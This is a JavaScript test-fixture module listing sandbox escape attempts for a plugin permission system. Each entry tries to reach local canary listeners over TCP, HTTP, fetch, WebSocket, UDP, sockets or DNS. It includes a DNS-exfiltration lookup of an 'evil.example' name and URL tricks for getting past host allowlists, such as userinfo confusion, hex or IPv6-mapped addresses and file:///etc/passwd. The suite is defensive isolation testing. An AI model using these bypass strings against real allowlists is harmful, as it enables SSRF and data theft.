import dgram from 'node:dgram';
import dns from 'node:dns';
import http from 'node:http';
import net from 'node:net';

// Each tries to speak with somebody. The test listens at every place and counts who was reached.
const done = open => new Promise((resolve, reject) => open().on('error', reject).on('close', resolve));
const connect = options =>
  done(() =>
    net.connect(options, function sent() {
      this.end('x');
    }),
  );

export const attacks = {
  'open-tcp': {
    tries: 'connect to a server of this machine',
    run: ({ tcp }) => connect({ port: tcp, host: '127.0.0.1' }),
    knownWithoutSandbox: true,
  },
  'open-http': {
    tries: 'ask a web server with node:http',
    run: ({ tcp }) => new Promise((resolve, reject) => http.get({ port: tcp, host: '127.0.0.1' }, resolve).on('error', reject)),
    knownWithoutSandbox: true,
  },
  'open-fetch': {
    tries: 'ask a web server with Node’s own fetch',
    run: ({ tcp }) => fetch(`http://127.0.0.1:${tcp}/`).then(() => 'reached'),
    knownWithoutSandbox: true,
  },
  'open-websocket': {
    tries: 'open a WebSocket with Node’s own',
    run: ({ tcp }) =>
      new Promise((_, reject) => {
        const socket = new WebSocket(`ws://127.0.0.1:${tcp}/`);
        socket.onerror = () => reject(new Error('no connection'));
      }),
    knownWithoutSandbox: true,
  },
  'open-udp': {
    tries: 'send a datagram',
    run: ({ udp }) =>
      new Promise((_, reject) => {
        const socket = dgram.createSocket('udp4').on('error', reject);
        socket.send('canary', udp, '127.0.0.1', error => error && reject(error));
        setTimeout(reject, 500, new Error('nobody answered'));
      }),
    knownWithoutSandbox: true,
  },
  'ask-dns': {
    tries: 'carry data out in the names it looks up',
    run: ({ udp }) => {
      const resolver = new dns.promises.Resolver({ timeout: 500, tries: 1 });
      resolver.setServers([`127.0.0.1:${udp}`]);
      return resolver.resolve4('canary-4711.evil.example');
    },
    knownWithoutSandbox: true,
  },
  'open-socket-file': {
    tries: 'connect to a socket file, as that of a container service or an agent of keys',
    run: ({ unix }) => connect({ path: unix }),
    knownWithoutSandbox: true,
  },
  'open-abstract-socket': {
    tries: 'connect to an abstract socket, as that of the desktop',
    run: ({ abstract }) => connect({ path: abstract }),
    knownWithoutSandbox: true,
  },
  'listen-tcp': {
    tries: 'be a server that others can reach',
    run: ({ free }) =>
      new Promise((_, reject) => {
        const server = net.createServer().on('error', reject);
        server.listen(free, '127.0.0.1', () => reject(new Error(`listens at ${free}, and waits for somebody to come`)));
      }),
    knownWithoutSandbox: true,
  },
  'fetch-undeclared': {
    tries: 'ask a host through ctx.fetch that it never declared',
    run: ({ tcp }, ctx) => ctx.fetch(`http://127.0.0.1:${tcp}/`),
  },
  'fetch-ungranted': {
    tries: 'ask a host through ctx.fetch that it declared and the person did not grant',
    atelier: { rights: { net: ['127.0.0.1'] } },
    run: ({ tcp }, ctx) => ctx.fetch(`http://127.0.0.1:${tcp}/`),
  },
  'fetch-other-host': {
    tries: 'pass for a granted host with user names, ports, cases and dots in the address',
    atelier: { rights: { net: ['api.example.org'] } },
    granted: { net: ['api.example.org'] },
    async run({ tcp }, ctx) {
      const failures = [];
      for (const url of [
        `http://api.example.org@127.0.0.1:${tcp}/`,
        `http://127.0.0.1:${tcp}#api.example.org`,
        `http://api.example.org.localhost:${tcp}/`,
        `http://0x7f.1:${tcp}/`,
        `http://[::ffff:127.0.0.1]:${tcp}/`,
        `file:///etc/passwd`,
        `data:text/plain,x`,
      ]) {
        try {
          return `reached ${url} ${(await ctx.fetch(url)).status}`;
        } catch (error) {
          failures.push(error);
        }
      }
      throw failures[0];
    },
  },
  'fetch-inside': {
    tries: 'reach this machine by a granted star and a name that leads inside (localhost, metadata address)',
    atelier: { rights: { net: ['*.localhost', 'localhost'] } },
    granted: { net: ['*.localhost'] },
    run: ({ tcp }, ctx) => ctx.fetch(`http://evil.localhost:${tcp}/`).then(() => 'reached'),
  },
};
